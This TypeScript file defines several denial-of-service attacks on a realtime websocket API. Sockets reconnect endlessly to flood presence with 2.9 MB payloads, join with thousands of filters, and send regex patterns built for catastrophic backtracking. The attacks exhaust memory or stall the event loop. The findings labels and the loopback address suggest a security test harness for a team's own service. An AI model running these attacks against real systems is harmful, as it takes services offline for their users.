import { WebSocket } from 'ws';
import type { Attack, Target } from './attack.ts';

const addressOf = ({ portal, publishableKey }: Target) =>
  `${portal.replace('http', 'ws')}/realtime/v1/websocket?apikey=${publishableKey}&vsn=1.0.0`;

/** Opens a socket again and again, and speaks on it until it or the attack ends. */
async function insist(target: Target, signal: AbortSignal, speak: (socket: WebSocket) => void): Promise<void> {
  while (!signal.aborted) {
    const socket = new WebSocket(addressOf(target), { localAddress: '127.0.0.2' });
    const { promise: over, resolve } = Promise.withResolvers<void>();
    const end = () => socket.terminate();
    signal.addEventListener('abort', end, { once: true });
    socket.on('open', () => speak(socket)).on('message', () => {});
    // Refused ones are tried again, but not in a loop without a pause.
    socket.on('error', () => setTimeout(resolve, 50)).on('close', () => setTimeout(resolve, 50));
    await over;
    signal.removeEventListener('abort', end);
  }
}

let reference = 0;
const frame = (topic: string, event: string, payload: object) =>
  JSON.stringify({ topic, event, payload, ref: String((reference += 1)), join_ref: '1' });

const heavy = 'x'.repeat(2_900_000);
function fillPresence(socket: WebSocket): void {
  for (let channel = 0; channel < 100; channel++) {
    const topic = `realtime:flood-${channel}`;
    socket.send(frame(topic, 'phx_join', { config: { presence: { key: '' }, broadcast: {}, postgres_changes: [] } }));
    socket.send(frame(topic, 'presence', { type: 'presence', event: 'track', payload: { heavy } }));
  }
}

const joinWith = (count: number, filterOf: (at: number) => string, table: string) => (socket: WebSocket) => {
  const changes = Array.from({ length: count }, (_, at) => ({ event: '*', schema: 'public', table, filter: filterOf(at) }));
  const join = () =>
    socket.send(frame(`realtime:join-${(reference += 1)}`, 'phx_join', { config: { postgres_changes: changes } }));
  join();
  socket.on('message', () => setTimeout(() => socket.readyState === socket.OPEN && join(), 100));
};

const several =
  (count: number, speak: (socket: WebSocket) => void): Attack['run'] =>
  async (target, signal) =>
    void (await Promise.all(Array.from({ length: count }, () => insist(target, signal, speak))));

/** C1 and H3: frames of realtime that fill the memory or hold the event loop up. */
export const attacks: readonly Attack[] = [
  { name: 'C1 presence of 2.9 MB on 100 channels, fifteen sockets', run: several(15, fillPresence) },
  {
    name: 'H3 joins of 8,000 filters, one socket',
    run: several(
      1,
      joinWith(8_000, (at) => `id=eq.${at}`, 'clubs'),
    ),
  },
  {
    name: 'H3 joins of 8,000 filters, ten sockets',
    run: several(
      10,
      joinWith(8_000, (at) => `id=eq.${at}`, 'clubs'),
    ),
  },
  {
    name: 'H3 joins of 1,600 slow patterns, ten sockets',
    run: several(
      10,
      joinWith(1_600, (at) => `choice=match.^(a+)+${at}$`, 'meeting_poll_tallies'),
    ),
  },
];
